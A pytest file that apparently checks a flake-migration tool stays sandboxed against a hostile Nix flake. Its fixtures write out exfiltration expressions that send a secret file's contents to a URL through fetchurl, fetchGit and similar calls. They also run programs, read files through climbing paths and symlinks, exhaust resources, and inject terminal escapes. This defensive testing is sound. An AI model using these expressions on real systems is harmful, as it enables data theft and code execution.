"""`migrate` on a flake that means harm: it reads, runs, sends and writes nothing."""

import contextlib
import http.server
import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from conftest import Nix
from test_migrate import FLAKE, Project, outputs_of, planned, project

from pyproject2nix.base.errors import RefusedError
from pyproject2nix.cli import main
from pyproject2nix.programs import evaluator
from pyproject2nix.programs.evaluator import Evaluator, LimitError

__all__ = ["project"]

SECRET = "the-secret-of-a-person"


@pytest.fixture
def asked() -> Iterator[tuple[str, list[str]]]:
    """Return a web server's address, and the paths that it was asked for."""
    paths: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            paths.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", paths
        server.shutdown()
        thread.join()


@pytest.fixture(params=["all_walls", "no_namespace"])
def walls(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """Take away the network's wall, so that each is seen to hold."""
    if request.param != "all_walls":
        monkeypatch.setattr(evaluator, "_leave_network", lambda: None)


#: Ways out: each would send what FILE holds to URL, or run PROGRAM.
FETCHERS = {
    "fetchurl": 'builtins.fetchurl "URL/?${CONTENT}"',
    "fetchurl, pinned": 'builtins.fetchurl { url = "URL/?${CONTENT}"; sha256 = HASH; }',
    "fetchTarball": 'fetchTarball "URL/${CONTENT}.tar.gz"',
    "fetchGit": 'fetchGit "URL/${CONTENT}"',
    "fetchGit, pinned": 'fetchGit { url = "URL/${CONTENT}"; rev = REV; }',
    "fetchTree": 'builtins.fetchTree { type = "tarball"; url = "URL/${CONTENT}.tar.gz"; }',
    "fetchMercurial": 'fetchMercurial "URL/${CONTENT}"',
    "getFlake": 'builtins.getFlake "URL/${CONTENT}.tar.gz"',
    "the search path": '__findFile [ { prefix = "x"; path = "URL/x.tar.gz"; } ] "x"',
    "a build": 'import (derivation { name = "x"; system = "x86_64-linux"; builder = '
    '"builtin:fetchurl"; url = "URL/${CONTENT}"; outputHashMode = "flat"; outputHash = HASH; '
    'outputHashAlgo = "sha256"; unpack = false; executable = false; })',
    "a closure": 'builtins.fetchClosure { fromStore = "URL"; fromPath = /nix/store/x; }',
    "git in the project": "fetchGit ./.",
    "git in the project, as a URL": 'fetchGit { url = "git+file://${toString ./.}"; }',
    "hg in the project": "fetchMercurial ./.",
    "a program": 'builtins.exec [ "git" ]',
    "a library": 'builtins.importNative ./library.so "x"',
}
CONTENTS = {
    "nothing": '"x"',
    "an absolute path": "(__substring 0 9 (builtins.readFile SECRET))",
    "a string": '(builtins.substring 0 9 (builtins.readFile "SECRET"))',
    "a path that climbs": "(__substring 0 9 (__readFile (./. + (RELATIVE))))",
    "a link": "(__substring 0 9 (builtins.readFile ./link))",
}


@pytest.fixture
def told(
    project: Project,
    asked: tuple[str, list[str]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    walls: None,
) -> Callable[[str, str], str]:
    """Return a function that migrates a flake with a fetcher in it: what becomes of its output.

    Nothing was asked for, and none of the programs was run.
    """
    programs = tmp_path / "programs"
    programs.mkdir()
    for name in ("git", "hg", "ssh", "curl"):
        (programs / name).write_text(f"#!/bin/sh\necho {name} \"$@\" >>'{tmp_path}/ran'\nexit 1\n")
        (programs / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{programs}:{os.environ['PATH']}")
    # What a machine may allow, and a person's flake must not get.
    monkeypatch.setenv(
        "NIX_CONFIG",
        "experimental-features = nix-command flakes fetch-closure\n"
        "allow-unsafe-native-code-during-evaluation = true\nallowed-uris = http: https: git+file:",
    )
    secret = tmp_path / "secret"
    secret.write_text(SECRET)

    def run(fetcher: str, content: str) -> str:
        folder = project()
        (folder / "link").symlink_to(secret)
        (folder / ".git").mkdir()
        (folder / ".hg").mkdir()
        body = fetcher.replace("URL", asked[0]).replace("CONTENT", content)
        body = body.replace("SECRET", str(secret)).replace("HASH", f'"{"0" * 64}"')
        body = body.replace("REV", f'"{"0" * 40}"').replace("RELATIVE", '"/../secret"')
        (folder / "flake.nix").write_text(FLAKE.replace("BODY", f'pkgs.uv "${{{body}}}"'))
        migration = planned(folder)
        assert not asked[1]
        assert not (tmp_path / "ran").exists()
        assert outputs_of(migration)["packages.app"] == "project.package"
        assert SECRET[:9] not in json.dumps([migration.changed, migration.generated])
        (loss,) = migration.losses
        return loss

    return run


@pytest.mark.parametrize("name", FETCHERS)
def test_a_flake_reaches_nobody(told: Callable[[str, str], str], name: str) -> None:
    loss = told(FETCHERS[name], CONTENTS["nothing"])
    assert loss.startswith("packages.it (flake.nix:10): Nix says: ")


@pytest.mark.parametrize("name", list(CONTENTS)[1:])
def test_a_flake_reads_no_file_of_the_machine(told: Callable[[str, str], str], name: str) -> None:
    loss = told("CONTENT", CONTENTS[name])
    assert "in restricted mode; write" in loss


def test_a_flake_is_told_nothing_of_the_environment(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TOKEN", SECRET)
    folder = project()
    (folder / "flake.nix").write_text(FLAKE.replace("BODY", 'pkgs.uv (builtins.getEnv "TOKEN")'))
    assert outputs_of(planned(folder))["packages.it"] == 'pkgs.uv ""'


def test_settings_in_a_flake_are_not_read(
    project: Project, asked: tuple[str, list[str]], walls: None
) -> None:
    folder = project()
    config = f'nixConfig = {{ allowed-uris = "http:"; substituters = "{asked[0]}"; }};'
    body = f'pkgs.uv "${{builtins.fetchurl "{asked[0]}/"}}"'
    (folder / "flake.nix").write_text(FLAKE.replace("{", "{" + config, 1).replace("BODY", body))
    assert "is forbidden in restricted mode" in planned(folder).losses[0]
    assert not asked[1]


def test_an_input_is_not_fetched(
    project: Project, asked: tuple[str, list[str]], walls: None
) -> None:
    folder = project()
    inputs = f'inputs.poetry2nix.url = "{asked[0]}/poetry2nix.tar.gz";'
    text = FLAKE.replace("{", "{" + inputs, 1).replace("BODY", "pkgs.uv 1")
    (folder / "flake.nix").write_text(text)
    before = sorted(folder.iterdir())
    assert not planned(folder).losses
    assert not asked[1]
    assert sorted(folder.iterdir()) == before


def test_the_search_path_of_the_machine_is_not_read(
    project: Project, asked: tuple[str, list[str]], monkeypatch: pytest.MonkeyPatch, walls: None
) -> None:
    monkeypatch.setenv("NIX_PATH", f"nixpkgs={asked[0]}/nixpkgs.tar.gz")
    folder = project()
    (folder / "flake.nix").write_text(FLAKE.replace("BODY", "pkgs.uv (import <nixpkgs> { })"))
    assert "file 'nixpkgs' was not found in the Nix search path" in planned(folder).losses[0]
    assert not asked[1]


@pytest.mark.skipif(sys.version_info < (3, 12), reason="os.unshare is new in Python 3.12")
def test_the_evaluator_has_no_network(asked: tuple[str, list[str]]) -> None:
    port = int(asked[0].rpartition(":")[2])
    code = f"import socket; socket.create_connection(('127.0.0.1', {port}))"
    run = [sys.executable, "-c", code]
    socket.create_connection(("127.0.0.1", port)).close()
    done = subprocess.run(run, preexec_fn=evaluator._confine, capture_output=True, check=False)
    if b"Error" not in done.stderr:
        pytest.skip("the kernel gives this process no namespace of its own")
    assert done.returncode != 0


@pytest.mark.parametrize("name", ["a b", "it's", 'a"b', "a=b", "a$b", "${x}", "a:b", "é"])
def test_folders_for_temporary_files_have_any_name(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    real = tmp_path / "real" / name
    real.mkdir(parents=True)
    place = tmp_path / f"link to {name}"
    place.symlink_to(real)
    monkeypatch.setenv("TMPDIR", str(place))
    monkeypatch.setattr("tempfile.tempdir", None)
    assert planned(project("poetry2nix", sdist=True)).outputs
    assert not list(real.iterdir())


@pytest.mark.parametrize("name", ["a b", "it's", 'a"b', "a=b", "a$b", "${x}", "a:b", "é"])
def test_projects_are_in_folders_of_any_name(project: Project, tmp_path: Path, name: str) -> None:
    folder = project("poetry2nix", sdist=True).rename(tmp_path / name)
    assert planned(folder).outputs


ENDLESS = "let f = n: if n == 0 then 0 else builtins.seq (f (n - 1)) (f (n - 1)); in f 60"


@pytest.mark.parametrize(
    "text",
    [
        "let f = n: f (n + 1); in f 0",
        "let f = n: 1 + f (n + 1); in f 0",
        "builtins.genList (n: builtins.genList (m: m) 100000) 100000",
        'let t = builtins.concatStringsSep "" (builtins.genList (_: "x") 1000000); '
        "in builtins.genList (_: t) 100000",
        ENDLESS,
    ],
)
def test_evaluation_ends(
    nix: Nix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    monkeypatch.setattr(evaluator, "_SECONDS", 3)
    with contextlib.suppress(LimitError):
        assert Evaluator([tmp_path]).evaluate(text, "flake.nix").returncode != 0


def test_a_flake_without_an_end_is_refused_once(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(evaluator, "_SECONDS", 3)
    folder = project()
    many = "".join(f"packages.x86_64-linux.more{i} = pkgs.uv ({ENDLESS}); " for i in range(50))
    (folder / "flake.nix").write_text(FLAKE.replace("packages.x86_64-linux.it = BODY;", many))
    assert main(["migrate", str(folder)]) == 2
    assert "flake.nix: evaluating it takes more than 3 s" in capsys.readouterr().err


def test_outputs_that_take_long_have_one_limit(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(evaluator, "_SECONDS_IN_ALL", 0)
    folder = project()
    (folder / "flake.nix").write_text(FLAKE.replace("BODY", "1 + self"))
    with pytest.raises(LimitError, match=r"takes more than 10 s, 0 s for all of its outputs"):
        planned(folder)


def test_expressions_of_many_bytes_are_refused(project: Project) -> None:
    folder = project("poetry2nix")
    with (folder / "large.nix").open("w") as file:
        file.truncate(3_000_000_000)
    with pytest.raises(RefusedError, match=r"has more than 8 MB of files \*\.nix; move"):
        planned(folder)


@pytest.mark.parametrize("depth", [900, 5000])
def test_outputs_nested_deeply_are_refused(
    project: Project, capsys: pytest.CaptureFixture[str], depth: int
) -> None:
    folder = project()
    body = f"pkgs.uv (builtins.foldl' (inner: _: [ inner ]) 1 (builtins.genList (n: n) {depth}))"
    (folder / "flake.nix").write_text(FLAKE.replace("BODY", body))
    main(["migrate", str(folder)])
    captured = capsys.readouterr()
    assert "too deeply" in captured.err or "packages.it (flake.nix:10): Nix says" in captured.out
    assert "Traceback" not in captured.err


@pytest.mark.parametrize("number", ["1.0e+308 * 1.0e+10", "9223372036854775807 + 0", "-0.0"])
def test_odd_numbers_are_no_traceback(
    project: Project, nix: Nix, capsys: pytest.CaptureFixture[str], number: str
) -> None:
    folder = project()
    (folder / "flake.nix").write_text(FLAKE.replace("BODY", f"pkgs.uv ({number})"))
    main(["migrate", str(folder), "--write"])
    capsys.readouterr()
    nix("--parse", str(folder / "flake.nix"))


def test_pipes_are_no_locks(project: Project) -> None:
    folder = project("pynixify")
    for name in ("lock.json", "lock.x86_64-linux.json", "nix/packages/x/default.nix", "a.nix"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(folder / name)
    (folder / "poetry.lock").unlink()
    with pytest.raises(RefusedError, match="there is no lock file"):
        planned(folder)


@pytest.mark.parametrize("name", ["", "trace.nix", "a/b", ".a"])
def test_names_of_inputs_are_no_paths(project: Project, name: str) -> None:
    folder = project()
    text = FLAKE.replace("{", f'{{ inputs."{name}".url = "x";', 1)
    (folder / "flake.nix").write_text(text.replace("BODY", "pkgs.uv 1"))
    with pytest.raises(RefusedError, match="is no input's name; correct it"):
        planned(folder)


def test_control_characters_are_shown_as_such(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = project()
    text = FLAKE.replace("BODY", 'pkgs.uv "a\x1b]0;title\x07"; description = "b\x1b[31m"')
    names = '"app\x1b[2J" = app; packages.x86_64-linux."gone\x1b[2J\nx = 1; #" = 1 + self;'
    text = text.replace("app = app;", f"app = app; packages.x86_64-linux.{names}")
    (folder / "flake.nix").write_text(text)
    assert main(["migrate", str(folder)]) == 1
    shown = capsys.readouterr().out
    assert r"packages.app\x1b[2J = project.package" in shown
    assert r"packages.gone\x1b[2J\nx = 1; #" in shown
    assert all(character.isprintable() for character in shown.replace("\n", ""))
